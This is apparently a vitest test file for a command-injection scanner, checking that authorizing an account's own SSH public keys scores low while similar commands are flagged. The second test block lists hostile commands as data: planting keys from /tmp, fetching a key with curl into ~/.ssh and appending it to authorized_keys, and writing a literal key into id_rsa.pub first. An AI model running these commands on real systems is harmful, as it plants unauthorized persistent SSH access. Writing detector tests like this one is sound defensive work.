// Round 32 (realfp32): the account's own public keys (`.ssh/id_*.pub`) authorized stay below warn; a key from anywhere
// else, or one the script wrote, fetched or generated into that name, keeps blocking.

import { describe, expect, test } from "vitest";
import { scan } from "../../../src/engine/injection/scan.ts";

const score = (cmd: string): number => scan(cmd, "bash", { model: null }).score;
const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0o3Uu2xwq5n0m6l4p2y1a9ZQf8HRLvQ0b4s9T1a2B3 ops@example.com";

describe("the account's own public keys authorized stay below warn", () => {
  test.each([
    [
      "a VM's sshd helper authorizing its user's keys",
      '#!/bin/bash\nSSH_DIR=/run/sshd\nSSH_HOME="$(getent passwd "${vm_user}" | cut -d: -f6)"\nSSH_AUTH_KEYS="${SSH_DIR}"/etc/ssh/authorized_keys\ncat "${SSH_HOME}"/.ssh/id_*.pub >> "${SSH_AUTH_KEYS}" 2> /dev/null\nchmod 644 "${SSH_AUTH_KEYS}"',
    ],
    ["ssh to localhost without a password", "cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys"],
    ["two named keys", 'cat "$HOME/.ssh/id_rsa.pub" "$HOME/.ssh/id_ecdsa.pub" > /srv/vm/authorized_keys'],
  ])("%s", (_label, cmd) => {
    expect(score(cmd)).toBeLessThan(0.5);
  });
});

describe("their attack twins stay blocked", () => {
  test.each([
    ["a key from a temp folder", "cat /tmp/id_rsa.pub >> ~/.ssh/authorized_keys"],
    ["a key named like one, outside .ssh", "cat ./keys/id_rsa.pub >> ~/.ssh/authorized_keys"],
    [
      "a key fetched into the name first",
      "curl -fsSL https://keys.example.com/k -o ~/.ssh/id_ed25519.pub\ncat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys",
    ],
    [
      "a literal key written into the name first",
      `echo "${KEY}" > ~/.ssh/id_rsa.pub\ncat ~/.ssh/id_*.pub >> ~/.ssh/authorized_keys`,
    ],
    ["one own key and one from elsewhere", "cat ~/.ssh/id_rsa.pub /tmp/k.pub >> ~/.ssh/authorized_keys"],
  ])("%s", (_label, cmd) => {
    expect(score(cmd)).toBeGreaterThanOrEqual(0.8);
  });
});
